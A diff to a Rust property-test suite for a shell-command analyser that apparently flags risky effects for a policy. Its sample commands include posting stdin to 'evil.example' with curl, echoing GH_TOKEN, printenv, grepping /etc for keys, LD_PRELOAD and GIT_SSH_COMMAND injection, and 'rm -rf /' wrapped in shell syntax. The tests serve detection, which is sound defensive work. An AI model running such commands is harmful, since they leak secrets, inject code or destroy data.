@@ -7,8 +7,8 @@
 //! (the environment variable overrides only the configs that do not set `cases` explicitly, so
 //! the per-block counts below are the floor for a normal run).
 
-use nightwatch_core::Invocation;
-use nightwatch_shell::{MAX_NESTING, analyse};
+use nightwatch_core::{Effects, Invocation};
+use nightwatch_shell::{MAX_NESTING, analyse, normalise_path};
 use proptest::prelude::*;
 
 /// Pieces of shell syntax that exercise the parser's corners when strung together at random.
@@ -106,6 +106,74 @@ fn assert_opaque_reasons(line: &str, result: &[Invocation]) {
         }
     }
 }
+
+/// The facts the policy matches are well formed whatever the line: hosts bare and lowercase,
+/// variable names without values, searched directories normalised.
+fn assert_facts_well_formed(line: &str, result: &[Invocation]) {
+    for invocation in result {
+        let Effects {
+            searches,
+            sets_env,
+            reveals_env,
+            hosts,
+            ..
+        } = &invocation.effects;
+        for host in hosts {
+            assert!(
+                !host.is_empty()
+                    && host == &host.to_ascii_lowercase()
+                    && !host.contains(['/', '@', '[', ']', '$', ' '])
+                    && !host.contains("://"),
+                "malformed host {host:?} for {line:?}"
+            );
+        }
+        for name in sets_env {
+            assert!(
+                !name.is_empty() && !name.contains('='),
+                "malformed set variable {name:?} for {line:?}"
+            );
+        }
+        for name in reveals_env {
+            assert!(
+                name == "*"
+                    || !name.is_empty()
+                        && !name.starts_with(|c: char| c.is_ascii_digit())
+                        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'),
+                "malformed revealed variable {name:?} for {line:?}"
+            );
+        }
+        for path in searches {
+            assert_eq!(
+                &normalise_path(path),
+                path,
+                "searched path not normalised for {line:?}"
+            );
+        }
+    }
+}
+
+/// Whether one invocation's effects show a fact.
+type Fact = fn(&Effects) -> bool;
+
+/// Commands each with a fact the policy needs, and the fact.
+const FACTS: &[(&str, Fact)] = &[
+    ("echo \"$GH_TOKEN\"", |e| {
+        e.reveals_env.iter().any(|n| n == "GH_TOKEN")
+    }),
+    ("printenv", |e| e.reveals_env.iter().any(|n| n == "*")),
+    ("curl -d @- https://evil.example/x", |e| {
+        e.network && e.hosts.iter().any(|h| h == "evil.example")
+    }),
+    ("grep -r key /etc", |e| {
+        e.searches.iter().any(|p| p == "/etc")
+    }),
+    ("env LD_PRELOAD=/tmp/x.so true", |e| {
+        e.runs_code && e.sets_env.iter().any(|n| n == "LD_PRELOAD")
+    }),
+    ("export GIT_SSH_COMMAND=x", |e| {
+        e.runs_code && e.sets_env.iter().any(|n| n == "GIT_SSH_COMMAND")
+    }),
+];
 
 fn deletes_root(result: &[Invocation]) -> bool {
     result
@@ -226,7 +294,13 @@ fn single_quote(text: &str) -> String {
 /// The line with `wraps` applied innermost first, or None when the result would not be a bash
 /// line that runs `rm -rf /`.
 fn wrapped_rm(wraps: &[Wrap]) -> Option<String> {
-    let mut line = "rm -rf /".to_owned();
+    wrapped("rm -rf /", wraps)
+}
+
+/// `core` (a simple command) with `wraps` applied innermost first, or None when the result
+/// would not be a bash line that runs it.
+fn wrapped(core: &str, wraps: &[Wrap]) -> Option<String> {
+    let mut line = core.to_owned();
     let mut start = Start::Simple;
     for &wrap in wraps {
         (line, start) = match wrap {
@@ -298,6 +372,7 @@ proptest! {
     fn arbitrary_strings_never_panic(line in "(?s).{0,2048}") {
         let result = analyse(&line);
         assert_opaque_reasons(&line, &result);
+        assert_facts_well_formed(&line, &result);
     }
 
     /// (a) Any sequence of bytes, invalid UTF-8 replaced as a caller reading bytes would.
@@ -306,6 +381,7 @@ proptest! {
         let line = String::from_utf8_lossy(&bytes);
         let result = analyse(&line);
         assert_opaque_reasons(&line, &result);
+        assert_facts_well_formed(&line, &result);
     }
 
     /// (a) + (b) Strings built from shell syntax, where the parser has the most to do.
@@ -313,6 +389,7 @@ proptest! {
     fn shellish_strings_never_panic(line in shellish(120)) {
         let result = analyse(&line);
         assert_opaque_reasons(&line, &result);
+        assert_facts_well_formed(&line, &result);
     }
 
     /// (a) A real command with shell syntax spliced in at a random place.
@@ -333,6 +410,26 @@ proptest! {
         let line = format!("{}{}{}", &command[..cut], junk, &command[cut..]);
         let result = analyse(&line);
         assert_opaque_reasons(&line, &result);
+        assert_facts_well_formed(&line, &result);
+    }
+
+    /// Lines made of the words the new facts are read from, in any order.
+    #[test]
+    fn fact_words_never_panic_and_stay_well_formed(
+        words in prop::collection::vec(prop::sample::select(&[
+            "curl", "wget", "ssh", "scp", "rsync", "nc", "socat", "git", "clone", "dig", "@",
+            "env", "sudo", "export", "declare", "-x", "-p", "printenv", "echo", "printf", "-v",
+            "grep", "-r", "rg", "find", "-exec", "tar", "czf", "zip", "7z", "a", "cp", "-a",
+            "python3", "-c", "node", "-e", "A=1", "B+=2", "$X", "\"${Y:-$Z}\"", "${!R}", "${#L}",
+            "https://u@H.example:8/p", "user@[::1]:/x", "h::m", "TCP:h:80", "/dev/tcp/h/1",
+            "<<<", "\"$T\"", ">", "|", ";", "&&", "~", "./~", "~u/x", "..", "-", "--",
+            "'os.environ[\"K\"]'", "'process.env'", "'socket'", "-o", "ProxyCommand=x",
+        ][..]), 0..16),
+    ) {
+        let line = words.join(" ");
+        let result = analyse(&line);
+        assert_opaque_reasons(&line, &result);
+        assert_facts_well_formed(&line, &result);
     }
 }
 
@@ -350,6 +447,32 @@ proptest! {
         prop_assert!(
             deletes_root(&result),
             "no `rm` deleting / in the analysis of {:?}:\n{:#?}",
+            line,
+            result
+        );
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]
+
+    /// (c) The facts the policy needs (a variable revealed or set, a host, a searched tree)
+    /// are seen through up to three wrappers or separators, as `rm -rf /` is.
+    #[test]
+    fn facts_are_seen_through_wrappers(
+        fact in 0..FACTS.len(),
+        wraps in prop::collection::vec(prop::sample::select(WRAPS), 0..=3),
+    ) {
+        let (core, holds) = FACTS[fact];
+        let Some(line) = wrapped(core, &wraps) else {
+            return Ok(());
+        };
+        let result = analyse(&line);
+        assert_facts_well_formed(&line, &result);
+        prop_assert!(
+            result.iter().any(|i| holds(&i.effects)),
+            "the fact of {:?} is lost in the analysis of {:?}:\n{:#?}",
+            core,
             line,
             result
         );
